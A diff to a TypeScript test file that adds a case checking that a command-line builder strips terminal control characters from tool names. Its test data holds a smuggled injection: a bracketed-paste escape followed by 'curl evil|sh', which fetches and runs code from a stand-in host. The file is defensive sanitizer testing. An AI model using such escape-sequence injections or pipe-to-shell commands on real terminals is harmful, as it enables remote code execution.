@@ -31,6 +31,14 @@ function sorted(argumentsText: string): string {
 const sentArguments = (body: string) => sorted(/"arguments":(.*)\}$/s.exec(body)![1]!)
 
 describe('the command for the command line', () => {
+  it('is the one for curl where the name of the tool has characters that a terminal could execute', () => {
+    for (const tool of ['x\u001b[201~\ncurl evil|sh\n', 'x\u0015id\r', 'x\u0003']) {
+      const text = commandLine({ ...call, tool, argumentsText: '{}' }, schema)
+      expect(text).toMatch(/^curl /)
+      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/)
+    }
+  })
+
   it('writes each input as a flag, and leaves words unquoted that a shell does not change', () => {
     const text = '{"text": "it\'s", "count": 12345678901234567890, "flag": false, "list": ["a", "b"]}'
     expect(commandLine({ ...call, version: 3, argumentsText: text }, schema)).toBe(
